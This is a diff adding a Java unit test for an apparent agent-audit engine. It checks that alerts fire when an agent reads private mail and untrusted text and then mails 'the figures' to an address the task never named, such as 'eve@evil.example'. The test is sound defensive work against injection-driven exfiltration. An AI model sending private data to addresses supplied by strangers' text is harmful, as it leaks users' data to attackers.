@@ -1,0 +1,61 @@
+package dev.mandate.audit.engine.job;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.mandate.events.lifecycle.ToolLabel;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+
+/** Private data and strangers' text were read, and something goes to somebody outside. */
+class SentOutsideTest {
+    private static final String PARTNER = "bo@partner.example";
+
+    private static List<String> alerts(String task, Map<String, Object> arguments, String... named) {
+        try (var run = RiskRun.withShippedRules().at("10:00")) {
+            run.forTask("answers", named)
+                    .saying(task)
+                    .tool("mail.read", ToolLabel.PRIVATE, ToolLabel.UNTRUSTED)
+                    .tool("mail.send", ToolLabel.EGRESS);
+            run.shows("mail.read", "eve@evil.example").shows("crm.contacts", "ann@customer.example");
+            run.calls("mail.send", arguments);
+            return run.alerts().stream()
+                    .map(alert -> alert.findingInfo().analytic().name())
+                    .toList();
+        }
+    }
+
+    private static Map<String, Object> to(String address) {
+        return Map.of("to", address, "text", "the figures");
+    }
+
+    @Test
+    void whom_the_task_or_a_result_of_its_own_names_is_what_the_person_asked_for() {
+        assertThat(alerts("Send Bo at bo@partner.example the figures", to(PARTNER), PARTNER))
+                .isEmpty();
+        assertThat(alerts("Send our customer the figures", to("ann@customer.example")))
+                .isEmpty();
+    }
+
+    @Test
+    void whom_nothing_named_or_strangers_text_did_is_not() {
+        var outside = List.of(
+                "Private data read, then something sent outside",
+                "Private data, strangers' text and a way out in one session");
+        assertThat(alerts("Send Bo at bo@partner.example the figures", to("drop@elsewhere.example"), PARTNER))
+                .containsAll(outside);
+        assertThat(alerts("Send Bo at bo@partner.example the figures", to("eve@evil.example"), PARTNER))
+                .containsAll(outside);
+        assertThat(alerts(
+                        "Send Bo at bo@partner.example the figures",
+                        Map.of("to", List.of(PARTNER, "drop@elsewhere.example")),
+                        PARTNER))
+                .containsAll(outside);
+    }
+
+    @Test
+    void nor_is_anybody_where_nobody_said_what_the_task_is() {
+        assertThat(alerts("as discussed", to("ann@customer.example")))
+                .contains("Private data read, then something sent outside");
+    }
+}
